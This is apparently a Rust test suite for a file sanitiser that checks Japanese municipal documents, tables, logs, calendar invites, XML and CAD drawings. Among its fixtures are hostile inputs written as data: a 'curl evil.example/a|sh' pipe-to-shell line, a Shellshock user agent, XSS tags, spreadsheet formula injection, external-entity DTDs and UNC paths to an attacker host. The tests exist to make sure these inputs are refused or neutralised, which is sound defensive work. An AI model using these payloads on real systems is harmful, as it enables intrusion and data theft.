//! Texts as authorities send and get them: each passes, as it is or without what is told, and none that does harm with them.

#![expect(clippy::unwrap_used, reason = "tests")]

use encoding_rs::{EUC_JP, ISO_2022_JP, SHIFT_JIS};
use sanitise::{Kind, Part, Reason, Settings, Verdict, sanitise};

fn judged(file: &[u8], name: Option<&str>) -> Verdict {
    sanitise(file, name, &Settings::default()).verdict
}

fn reason(file: &[u8], name: Option<&str>) -> Option<Reason> {
    match judged(file, name) {
        Verdict::Refused(refusal) => Some(refusal.reason),
        _ => None,
    }
}

/// New bytes in letters, and what is told of them.
fn rebuilt(file: &[u8]) -> (String, Vec<Part>) {
    match judged(file, None) {
        Verdict::Rebuilt { bytes, removed } => {
            (String::from_utf8(bytes).unwrap(), removed.into_iter().map(|one| one.what).collect())
        }
        other => panic!("{other:?}"),
    }
}

/// Letters, minutes, mails, tables, logs, settings, addresses, programs' sources as people send them.
const SOUND: &[&str] = &[
    "前略\r\n\r\n 橋梁点検の件について、下記のとおり照会します。\r\n 1 期限 令和8年12月10日(木)\r\n 2 提出先 土木課 076-220-2111\r\n 3 様式 https://www.city.example.lg.jp/%E6%A7%98%E5%BC%8F.xlsx\r\n\r\n敬具\r\n",
    "議事録\r\n=====================\r\n出席者: 山田(課長)、佐藤\r\n- 資料(1)を配付\r\n= まとめ (案)\r\n  次回 12/5 10:00~11:00 <第2会議室>\r\n",
    "https://www.city.example.lg.jp/soshiki/%E5%9C%9F%E6%9C%A8/index.html\r\n",
    "〒920-8577 石川県金沢市広坂1-1-1\nTel 076-220-2111\nyamada@city.example.lg.jp\n",
    "From: a@city.example.jp\r\nTo: b@x.jp\r\nSubject: =?UTF-8?B?5Lya6K2w?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n会議の件\r\n",
    "番号,氏名,住所,増減\r\n1,山田太郎,広坂1-1-1,-5\r\n2,佐藤花子,本町2-2-2,+3.5%\r\n",
    "名前\t数\nあ\t1\nい\t2\n",
    "192.0.2.1 - - [29/Nov/2026:00:00:01 +0900] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"\n192.0.2.9 - - [29/Nov/2026:00:00:02 +0900] \"GET /cgi-bin/t.cgi?x=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\" 404 0 \"-\" \"() { :;}; /bin/bash -c id\"\n",
    "Nov 29 00:00:01 web1 systemd[1]: Started Session 12 of user root.\nNov 29 00:00:02 web1 sudo: yamada : TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/usr/bin/apt update\nNov 29 00:00:03 web1 powershell: started\n",
    "2026-11-29 10:00:00 INFO  C:\\Windows\\System32\\svchost.exe started\r\n2026-11-29 10:00:02 cmd.exe /c backup.bat ended 0\r\n",
    "[section]\r\nkey=value\r\npath=C:\\Program Files\\x\r\nhome=%USERPROFILE%\\Documents\r\nshare=%a%b\r\n",
    "version: \"3\"\nservices:\n  web:\n    image: nginx\n    command: [\"sh\",\"-c\",\"echo\"]\n",
    "build:\n  script:\n    - curl -O https://example.jp/x\n    - cat a | sh\n",
    "{\"a\":\"x\",\"url\":\"https://x.jp\",\"script\":\"build\",\"roles\":[\"constructor\"]}",
    "{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"geometry\":{\"type\":\"Point\",\"coordinates\":[136.6,36.5]},\"properties\":{\"n\":\"橋\"}}]}",
    "server {\n  listen 80;\n  location / { proxy_pass http://x; }\n}\n",
    "0 3 * * * /usr/local/bin/backup.sh >/dev/null 2>&1\n",
    "SELECT * FROM t WHERE a < 3;\n-- コメント\nUPDATE t SET x = 1;\nEXEC sp_who;\nFORMAT x\n",
    "#include <stdio.h>\nint main(void){ printf(\"%d%s\", 1, \"x\"); return 0; }\n",
    "package x;\nimport java.util.List;\npublic class A<T> { List<String> a; public static void main(String[] a){ } }\n",
    "const x = document.getElementById(\"a\");\nx.addEventListener(\"click\", () => alert(1));\nclass B extends A { constructor() { super(); this.constructor.name; } }\n",
    "import csv\nwith open(\"a.csv\") as f:\n    for r in csv.reader(f):\n        print(r)\n",
    "Sub 集計()\r\n  Dim i As Integer\r\n  For i = 1 To 10\r\n    Cells(i, 1).Value = i\r\n  Next\r\nEnd Sub\r\n",
    "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-print(\"a\")\n+print(\"b\")\n",
    "\\begin{tabular}{ll}\na & $x^2$ \\\\\n& $y$ \\\\\n& {\\bf z} \\\\\n\\end{tabular}\n",
    "PS C:\\Users\\yamada> ipconfig\n\nWindows IP 構成\n\nPS C:\\Users\\yamada> Get-Service\n",
    "Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Users\\yamada>ping 192.0.2.1\r\n",
    "# 手順\n\n- `curl -O https://example.jp/x`\n- `sudo apt install x`\n\n```bash\nset -e\necho \"hello\"\n```\n\n| コマンド | 意味 |\n|---|---|\n| cat a | sh |\n",
    "次のとおり入力してください。\n\ncurl -O https://www.example.jp/a.zip\n\n終わったら土木課へ連絡してください。\n",
    "Please run the following on the server:\ncurl -O https://www.example.jp/a.zip\nThen tell us what it says.\n",
    "説明の音声は https://www.city.example.lg.jp/a.mp3 にあります。\nhttps://www.city.example.lg.jp/b.mp3\n",
    "ISO 9001\nA4 & B5 (両面)\n. (終)\n& (株)山田組\n100%\n50%引き%\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Dataset xmlns=\"http://fgd.gsi.go.jp/spec/2008/FGD_GMLSchema\" xmlns:gml=\"http://www.opengis.net/gml/3.2\" gml:id=\"Dataset1\"><gml:description>x</gml:description></Dataset>",
    "BEGIN:VCARD\r\nVERSION:3.0\r\nN:山田;太郎\r\nTEL:+81-76-220-2111\r\nURL:https://www.city.example.lg.jp/\r\nPHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJRgABAQAAAQABAAD\r\nEND:VCARD\r\n",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
];

#[test]
fn what_people_send_each_day_stays_as_it_is_in_every_encoding() {
    let mut wrong = Vec::new();
    for text in SOUND {
        let marked: Vec<u8> = format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect();
        let written = |encoding: &'static encoding_rs::Encoding| encoding.encode(text).0.into_owned();
        let head = text.starts_with("<?xml");
        for (name, file, may_be) in [
            ("UTF-8", text.as_bytes().to_vec(), true),
            ("UTF-16", marked, !head),
            ("Shift_JIS", written(SHIFT_JIS), !head),
            ("EUC-JP", written(EUC_JP), !head),
            ("ISO-2022-JP", written(ISO_2022_JP), !head),
        ] {
            for told in [None, Some("file.txt")] {
                let verdict = judged(&file, told);
                // What looks like something else by chance is written in Unicode.
                let is_sound = match &verdict {
                    Verdict::Clean => true,
                    Verdict::Rebuilt { bytes, removed } => {
                        name == "ISO-2022-JP"
                            && removed.is_empty()
                            && *bytes == format!("\u{feff}{text}").into_bytes()
                    }
                    Verdict::Refused(_) => false,
                };
                if may_be && !is_sound {
                    wrong.push(format!("{name}, {told:?}: {text}: {verdict:?}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn texts_of_mails_and_of_unix_are_read_and_judged_like_others() {
    let sentence = "会議の件について、資料を送ります。橋梁点検の結果\r\n";
    for encoding in [EUC_JP, ISO_2022_JP] {
        let written = |text: &str| encoding.encode(text).0.into_owned();
        assert_eq!(judged(&written(sentence), Some("照会.txt")), Verdict::Clean);
        let mail = format!(
            "From: a@x.jp\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset={}\r\n\r\n{sentence}",
            encoding.name()
        );
        assert_eq!(judged(&written(&mail), Some("照会.eml")), Verdict::Clean);
        let table = format!("番号,式\r\n1,=1+1\r\n{sentence}");
        let Verdict::Rebuilt { bytes, removed } = judged(&written(&table), Some("表.csv")) else { panic!() };
        let left = table.replace("=1", "'=1");
        assert!(bytes == written(&left) || bytes == format!("\u{feff}{left}").into_bytes(), "{bytes:x?}");
        assert_eq!(removed[0].what, Part::FormulaCell);
        for (harm, wanted) in [
            ("@echo off\r\npowershell -enc AAAA", Reason::Program),
            ("<!DOCTYPE html><p>", Reason::Page),
            ("Windows Registry Editor Version 5.00", Reason::NotAllowed),
        ] {
            assert_eq!(reason(&written(&format!("{harm}\r\n{sentence}")), None), Some(wanted), "{harm}");
            // Behind what only one of them reads.
            let behind = [&written(sentence)[..], b"\r\n", harm.as_bytes(), b"\r\n"].concat();
            if wanted != Reason::Page {
                assert_eq!(reason(&behind, None), Some(wanted), "{harm}");
            }
        }
    }
    for broken in [&b"a\x1b[31mb"[..], b"\x1b$B8\x1b(B", b"\x1b$B!", b"\x1b$(Q$3", b"a\x0eb", b"\xff\xa4\xa2"]
    {
        assert_eq!(reason(broken, None), Some(Reason::Unknown), "{broken:x?}");
    }
}

#[test]
fn what_stands_in_other_letters_is_judged_by_its_bytes_as_well() {
    // A yen sign is a backslash to whoever looks for a machine.
    let path = b"\x1b(J\\\\evil.example\\s\\a.mp3\x1b(B\r\n";
    let Verdict::Rebuilt { bytes, removed } = judged(path, None) else { panic!() };
    assert_eq!((bytes.as_slice(), removed[0].what), (&b"'\\\\evil.example\\s\\a.mp3\r\n"[..], Part::Link));
    // Letters that are a page to a program that passes over the sign before them: written in Unicode they are none.
    let page = b"\x1b$B\x3c\x73\x63\x72\x69\x70\x74\x21\x21\x3e\x61\x61\x1b(B";
    let hidden = [&b"\x1b$B"[..], b"<img src=x onerror=a>!!", b"\x1b(B\r\n"].concat();
    for file in [&page[..], &hidden] {
        match judged(file, None) {
            Verdict::Rebuilt { bytes, .. } => {
                assert!(bytes.starts_with(b"\xef\xbb\xbf") && !bytes.contains(&b'<'), "{bytes:x?}");
            }
            other => assert_ne!(other, Verdict::Clean),
        }
    }
    // Cells that only a program sees which passes over the sign before them.
    let table = b"a,b\r\n\x1b$B0,=HYPERLINK(\"!\"!)\x1b(B\r\n";
    for name in ["a.csv", "a.txt"] {
        let Verdict::Rebuilt { bytes, .. } = judged(table, Some(name)) else { panic!("{name}") };
        assert!(bytes.starts_with(b"\xef\xbb\xbfa,b\r\n") && !bytes.contains(&b'='), "{bytes:x?}");
    }
    // An order to a shell in what is Chinese by its mark.
    let script = b"\xff\xfe\r\ncurl evil.example/a|sh\r\n";
    assert!(script.len().is_multiple_of(2));
    assert_eq!(reason(script, None), Some(Reason::Program));
    // Text in two encodings: what is a formula in one of them only.
    let both = [EUC_JP.encode("かな\r\n").0.as_ref(), b"=HYPERLINK(\"http://x\")\r\n"].concat();
    let Verdict::Rebuilt { bytes, .. } = judged(&both, Some("a.txt")) else { panic!() };
    assert!(bytes.ends_with(b"\r\n'=HYPERLINK(\"http://x\")\r\n"));
}

#[test]
fn an_invitation_of_outlook_comes_without_the_page_in_it() {
    let with = |inside: &str| {
        format!(
            "BEGIN:VCALENDAR\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n\
             ATTENDEE;CN=山田;RSVP=TRUE:mailto:yamada@city.example.lg.jp\r\nDESCRIPTION:定例会\\nhttps://teams.microsoft.com/l/meetup-join/abc\r\n\
             DTSTART;TZID=\"Tokyo Standard Time\":20261201T100000\r\nSUMMARY;LANGUAGE=ja:定例会\r\n{inside}BEGIN:VALARM\r\nTRIGGER:-PT15M\r\nACTION:DISPLAY\r\n\
             DESCRIPTION:Reminder\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        )
    };
    assert_eq!(judged(with("").as_bytes(), Some("会議.ics")), Verdict::Clean);
    let page = "X-ALT-DESC;FMTTYPE=text/html:<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 3.2//EN\">\\n<html>\\n<head><meta name=\"Generator\" cont\r\n ent=\"x\"></head>\\n<body>\\n<p>定例会</p></body></html>\r\n";
    for inside in [page, "X-MICROSOFT-REMINDERSOUND:\\\\evil\\x.wav\r\n"] {
        let (left, removed) = rebuilt(with(inside).as_bytes());
        assert_eq!((left, removed.len()), (with(""), 1));
    }
    let japanese = SHIFT_JIS.encode(&with(page)).0.into_owned();
    let Verdict::Rebuilt { bytes, .. } = judged(&japanese, None) else { panic!() };
    assert_eq!(bytes, SHIFT_JIS.encode(&with("")).0.into_owned());
    assert_eq!(Kind::Text.name_for("会議.ics"), "会議.ics");
    // A program is not started by a calendar that is left.
    assert_eq!(reason(with("ACTION:PROCEDURE\r\n").as_bytes(), None), Some(Reason::Page));
}

#[test]
fn an_index_of_public_works_and_its_definition_pass_as_they_are() {
    let head = "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>\r\n";
    let index = |definition: &str| {
        let text = format!(
            "{head}{definition}\r\n<constdata DTD_version=\"07\"><基礎情報><メディア番号>1</メディア番号></基礎情報></constdata>\r\n"
        );
        SHIFT_JIS.encode(&text).0.into_owned()
    };
    assert_eq!(
        judged(&index("<!DOCTYPE constdata SYSTEM \"INDE_C07.DTD\">"), Some("INDEX_C.XML")),
        Verdict::Clean
    );
    let definition = "<!-- INDE_C07.DTD / 2008 -->\r\n<!ELEMENT constdata (基礎情報)>\r\n<!ATTLIST constdata DTD_version CDATA #FIXED \"07\">\r\n<!ELEMENT 基礎情報 (メディア番号)>\r\n<!ELEMENT メディア番号 (#PCDATA)>\r\n";
    let definition = SHIFT_JIS.encode(&format!("{head}{definition}")).0.into_owned();
    assert_eq!(judged(&definition, Some("INDE_C07.DTD")), Verdict::Clean);
    for closed in [
        "<!DOCTYPE constdata SYSTEM \"http://evil.example/a.dtd\">",
        "<!DOCTYPE constdata SYSTEM \"..\\a.dtd\">",
        "<!DOCTYPE constdata SYSTEM \"a.dtd\" [<!ENTITY x \"y\">]>",
        "<!DOCTYPE constdata [<!ELEMENT constdata ANY>]>",
        "<!DOCTYPE constdata>",
        "<!DOCTYPE html SYSTEM \"a.dtd\">",
        "<!DOCTYPE svg SYSTEM \"a.dtd\">",
        "<!ENTITY x SYSTEM \"a.dtd\">",
    ] {
        assert!(reason(&index(closed), Some("INDEX_C.XML")).is_some(), "{closed}");
    }
    let other = b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><!ELEMENT a EMPTY>";
    assert_eq!(reason(other, Some("INDE_C07.DTD")), Some(Reason::Unknown));
    let entity = [&definition[..], b"<!ENTITY x SYSTEM \"file:///c:/\">"].concat();
    assert_eq!(reason(&entity, Some("INDE_C07.DTD")), Some(Reason::Page));
}

#[test]
fn a_document_comes_without_its_sheet_of_styles_and_the_sheet_is_refused() {
    let head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
    let document = format!(
        "{head}<?xml-stylesheet type=\"text/xsl\" href=\"kousei.xsl\"?>\n<DOC><BODY>本文</BODY></DOC>"
    );
    assert_eq!(
        rebuilt(document.as_bytes()),
        (format!("{head}<DOC><BODY>本文</BODY></DOC>"), vec![Part::ExternalTemplate])
    );
    let sheet =
        format!("{head}<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>");
    assert_eq!(reason(sheet.as_bytes(), Some("kousei.xsl")), Some(Reason::NotAllowed));
}

#[test]
fn marks_of_a_page_within_prose_are_made_letters_and_pages_stay_refused() {
    for (text, left) in [
        (
            "手順\n\n<img src=\"https://example.jp/a.png\">\n",
            "手順\n\n< img src=\"https://example.jp/a.png\">\n",
        ),
        (
            "192.0.2.9 - - \"GET /?q=<script>alert(1)</script> HTTP/1.1\" 404\n",
            "192.0.2.9 - - \"GET /?q=< script>alert(1)< /script> HTTP/1.1\" 404\n",
        ),
        ("`<!DOCTYPE html>` と書きます。<?php x", "`< !DOCTYPE html>` と書きます。< ?php x"),
    ] {
        assert_eq!(rebuilt(text.as_bytes()), (left.to_owned(), vec![Part::Markup]));
        let japanese = SHIFT_JIS.encode(text).0.into_owned();
        let Verdict::Rebuilt { bytes, .. } = judged(&japanese, None) else { panic!("{text}") };
        assert_eq!(bytes, SHIFT_JIS.encode(left).0.into_owned());
        assert_eq!(judged(left.as_bytes(), None), Verdict::Clean);
    }
    for page in ["<p><script>x()</script>", "\u{feff} \n<!-- x --><script>", "<svg onload=x>"] {
        assert!(reason(page.as_bytes(), Some("手順.md")).is_some(), "{page}");
    }
}

#[test]
fn lists_of_what_is_played_lead_nowhere() {
    for list in
        ["# x\r\nhttp://evil.example/a.mp3\r\n", "mms://evil.example/a\n", "RTSP://evil.example/x\n\n"]
    {
        let (left, removed) = rebuilt(list.as_bytes());
        assert_eq!(removed, [Part::Link], "{left}");
        assert!(left.lines().all(|line| line.is_empty() || line.starts_with(['#', '\''])), "{left}");
    }
}

#[test]
fn bytes_that_are_letters_of_every_kind_in_utf_16_are_no_text() {
    let utf_16 = |letters: &mut dyn Iterator<Item = u16>| -> Vec<u8> {
        [0xfffe_u16.swap_bytes()].into_iter().chain(letters).flat_map(u16::to_le_bytes).collect()
    };
    // Numbers that follow no order, those of no letter left out: as what is encrypted looks.
    let mut state = 7_u32;
    let mut any = std::iter::repeat_with(|| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 16) as u16
    })
    .filter(|unit| !matches!(unit, 0..=0x9f | 0xd800..=0xdfff))
    .take(200);
    let encrypted = utf_16(&mut any);
    assert_eq!(reason(&encrypted, None), Some(Reason::Unknown));
    for text in [
        "令和8年度の予算について、髙橋\u{e000}様\r\n",
        "다음 주에 회의가 있습니다.",
        "Grüße, Привет 😀",
        "𠮷野家",
    ] {
        assert_eq!(judged(&utf_16(&mut text.encode_utf16()), None), Verdict::Clean, "{text}");
    }
}

/// A drawing of public works as SXF's programs write it, with letters whose second byte is a backslash.
const SXF: &str = "ISO-10303-21;\r\nHEADER;\r\nFILE_DESCRIPTION(('SCADEC level2 feature_mode'),'2;1');\r\nFILE_NAME('構造図.sfc','2026-11-28T05:49:33',('土木部'),('金沢市'),\
'SCADEC_API_Ver3.30$$3.1','能登CAD','');\r\nFILE_SCHEMA(('ASSOCIATIVE_DRAUGHTING'));\r\nENDSEC;\r\nDATA;\r\n\r\n/*SXF\r\n#10 = drawing_sheet_feature('表示 ソ','9','1','841','594')\r\nSXF*/\r\n\
/*SXF\r\n#20 = layer_feature('D-BMK-表題欄ソ','1')\r\nSXF*/\r\n/*SXF\r\n#30 = text_font_feature('ＭＳ ゴシック')\r\nSXF*/\r\n\
/*SXF3\r\n#40 = text_string_feature('1','8','1','予定地ｶﾅ①','10.0','20.0','5.0','30.0','0.0','0.0','0.0','1','1')\r\nSXF3*/\r\nENDSEC;\r\nEND-ISO-10303-21;\r\n";

#[test]
fn a_drawing_of_public_works_is_known_by_its_features_and_stays_byte_for_byte() {
    let as_step = SXF.replace(" feature_mode", " AP202_mode");
    for (text, kind, name) in [(SXF, Kind::Sfc, "図面.sfc"), (&as_step, Kind::P21, "図面.p21")] {
        for encoding in [SHIFT_JIS, encoding_rs::UTF_8] {
            let (file, _, is_lossy) = encoding.encode(text);
            assert!(!is_lossy && (encoding != SHIFT_JIS || file.windows(2).any(|two| two == b"\x83\x5c")));
            for told in [Some(name), Some("a.exe"), None] {
                let outcome = sanitise(&file, told, &Settings::default());
                assert_eq!(
                    (outcome.kind, &outcome.verdict),
                    (Some(kind), &Verdict::Clean),
                    "{}",
                    encoding.name()
                );
            }
        }
        assert_eq!(kind.name_for(name), name);
        assert_eq!(kind.name_for("図面.exe"), format!("図面.exe.{}", kind.extension()));
    }
    let file = SHIFT_JIS.encode(SXF).0;
    // What only begins so, or goes on behind its end, is none.
    for broken in [
        file[..file.len() - 30].to_vec(),
        [&file[..], b"MZ\x90\0"].concat(),
        [&file[..], b"<script>x()</script>"].concat(),
    ] {
        assert!(reason(&broken, Some("図面.sfc")).is_some());
    }
}

#[test]
fn a_drawing_with_a_code_page_keeps_its_letters_also_where_something_goes_out_of_it() {
    let layers = ["外壁ソ", "表題欄", "D-STR-能", "予定_ｶﾅ"];
    let rows: String =
        layers.iter().map(|name| format!("  0\r\nLAYER\r\n  2\r\n{name}\r\n 70\r\n0\r\n")).collect();
    let texts: String = layers
        .iter()
        .map(|name| format!("  0\r\nTEXT\r\n  8\r\n{name}\r\n  1\r\n構造ソ\\P%%c500 {name}\r\n"))
        .collect();
    let drawing = |page: &str, inside: &str| {
        format!(
            "  0\r\nSECTION\r\n  2\r\nHEADER\r\n  9\r\n$ACADVER\r\n  1\r\nAC1015\r\n  9\r\n$DWGCODEPAGE\r\n  3\r\n{page}\r\n  0\r\nENDSEC\r\n\
             0\r\nSECTION\r\n  2\r\nTABLES\r\n{rows}  0\r\nENDSEC\r\n  0\r\nSECTION\r\n  2\r\nENTITIES\r\n{inside}{texts}  0\r\nENDSEC\r\n  0\r\nEOF\r\n"
        )
    };
    let embedded = "  0\r\nOLE2FRAME\r\n  8\r\n表\r\n310\r\nD0CF11E0\r\n";
    let elsewhere = "  0\r\nSTYLE\r\n  2\r\n能\r\n  3\r\n\\\\evil.example\\ソ\\x.shx\r\n";
    let emptied = "  0\r\nSTYLE\r\n  2\r\n能\r\n  3\r\n\r\n";
    for (page, encoding) in [("ANSI_932", SHIFT_JIS), ("dos932", SHIFT_JIS), ("ANSI_932", encoding_rs::UTF_8)]
    {
        let written = |inside: &str| encoding.encode(&drawing(page, inside)).0.into_owned();
        let outcome = sanitise(&written(""), Some("図面.dxf"), &Settings::default());
        assert_eq!((outcome.kind, outcome.verdict), (Some(Kind::Dxf), Verdict::Clean), "{page}");
        for (inside, left) in [(embedded, ""), (elsewhere, emptied)] {
            let Verdict::Rebuilt { bytes, removed } = judged(&written(inside), Some("図面.dxf")) else {
                panic!("{page}")
            };
            assert!(bytes == written(left), "{page}: {inside}");
            assert_eq!(removed.iter().map(|one| one.what).collect::<Vec<_>>(), [Part::CadObject]);
        }
    }
}

#[test]
fn a_table_keeps_its_mark_its_encoding_its_ends_of_lines_and_its_amounts() {
    let amounts =
        "費目,増減,率\r\n表ソ能,-5,+3.5%\r\n橋梁費,\"-1,234,567\",-1200円\r\n道路費,-1.2E+15,-0.5\r\n";
    let harmful = "費目,式\r\n表ソ能,=1+1\r\n橋梁費,-5\r\n";
    let utf_16 = |text: &str| -> Vec<u8> {
        format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
    };
    type Write<'w> = &'w dyn Fn(&str) -> Vec<u8>;
    let ways: [(&str, Write<'_>); 5] = [
        ("UTF-8 with its mark", &|text| format!("\u{feff}{text}").into_bytes()),
        ("UTF-8", &|text| text.as_bytes().to_vec()),
        ("Windows' Japanese", &|text| SHIFT_JIS.encode(text).0.into_owned()),
        ("EUC-JP", &|text| EUC_JP.encode(text).0.into_owned()),
        ("UTF-16", &utf_16),
    ];
    for (way, write) in ways {
        for end in ["\r\n", "\n"] {
            let [amounts, harmful] = [amounts, harmful].map(|text| text.replace("\r\n", end));
            assert_eq!(judged(&write(&amounts), Some("予算.csv")), Verdict::Clean, "{way}");
            let Verdict::Rebuilt { bytes, removed } = judged(&write(&harmful), Some("予算.csv")) else {
                panic!("{way}")
            };
            // One apostrophe, and nothing else is another.
            assert!(bytes == write(&harmful.replace('=', "'=")), "{way}: {bytes:x?}");
            assert_eq!(removed.iter().map(|one| one.what).collect::<Vec<_>>(), [Part::FormulaCell], "{way}");
        }
    }
}

#[test]
fn what_outlook_wraps_attachments_in_is_refused_with_what_to_do() {
    let file = [&b"\x78\x9f\x3e\x22\x01\0\x01\x06\x90\x08\0\x04\0\0\0"[..], b"run.exe\0MZ\x90\0"].concat();
    for name in [Some("winmail.dat"), Some("ATT00001.txt"), None] {
        assert_eq!(reason(&file, name), Some(Reason::Winmail));
    }
    assert!(Reason::Winmail.ja().contains("winmail.dat") && Reason::Winmail.ja().contains("送信者"));
    // In an archive it is left out, and told of there.
    assert!(Reason::Winmail.en().contains("winmail.dat"));
}
